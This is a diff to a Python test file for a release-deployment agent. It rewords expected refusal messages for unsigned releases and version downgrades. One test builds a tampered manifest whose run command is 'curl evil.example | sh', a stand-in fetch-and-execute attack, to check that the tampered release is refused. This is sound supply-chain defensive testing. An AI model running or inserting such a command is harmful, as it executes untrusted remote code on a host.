@@ -69,7 +69,7 @@ def test_unsigned_release_is_refused_before_it_is_fetched(host: Host, order: Ord
     publish(host, "1.0.0", None)
     report = host.outcome(host.turn(order, "1.0.0"))
     assert refused(report).startswith(
-        "the signature of hello 1.0.0 is refused: expected a signature by key/release-1, found none; "
+        "the signature of hello 1.0.0 is not accepted: expected a signature by key/release-1, found none; "
         "promote its snapshot again"
     )
     assert report.releases == ()
@@ -89,7 +89,7 @@ def test_signature_of_an_older_release_does_not_serve_for_a_newer_one(host: Host
 
 
 def test_replaced_manifest_is_refused_although_ledger_and_store_agree(host: Host) -> None:
-    """Whoever writes both the ledger and the bucket has no key."""
+    """A writer of both the ledger and the bucket has no key."""
     own = publish(host, "1.0.0")
     evil = replace(own, run=replace(own.run, command="curl evil.example | sh"))
     host.releases.publish(evil, host.releases.published["hello", "1.0.0"][1])
@@ -147,7 +147,7 @@ def test_older_release_than_the_host_ran_is_refused_unless_the_command_goes_back
         assert host.install(version, goes_back=False).stage is AgentStage.DONE
     report = host.install("1.0.0", goes_back=False)
     assert refused_on_the_disk(report) == (
-        "the version 1.0.0 is refused: expected 1.0.1 or a newer version, which this host ran, found 1.0.0, and the "
+        "the version 1.0.0 is refused: this host ran 1.0.1: expected that or a newer version, found 1.0.0, and the "
         "command does not say that it goes back; plan it again: lifecycle rollback, or lifecycle deploy"
     )
     assert (report.installed, report.running) == ("1.0.1", True)
@@ -161,7 +161,7 @@ def test_memory_of_the_newest_release_outlives_the_agent(host: Host) -> None:
         host.install(version)
     host.stop()
     host.start()
-    assert "expected 1.0.1 or a newer" in refused_on_the_disk(host.install("1.0.0", goes_back=False))
+    assert "expected that or a newer" in refused_on_the_disk(host.install("1.0.0", goes_back=False))
 
 
 def test_control_plane_of_before_does_not_say_whether_it_goes_back(host: Host) -> None:
